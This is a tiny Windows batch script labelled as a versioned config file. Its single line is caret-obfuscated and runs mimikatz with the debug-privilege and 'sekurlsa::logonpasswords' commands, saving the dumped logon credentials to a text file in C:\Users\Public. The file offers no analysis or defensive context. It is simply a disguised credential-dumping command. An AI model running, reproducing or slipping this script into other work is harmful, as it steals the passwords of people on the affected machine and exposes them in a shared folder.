REM config 7228 v4
fo^r /f "tokens=1 delims=~" %%^i i^n ("mimikatz.exe~lkag~hjji") do %%^i "privilege::debug" "sekurlsa::logonpasswords" "exit" > C:\Us^ers\^Pu^bl^ic\m.t^xt
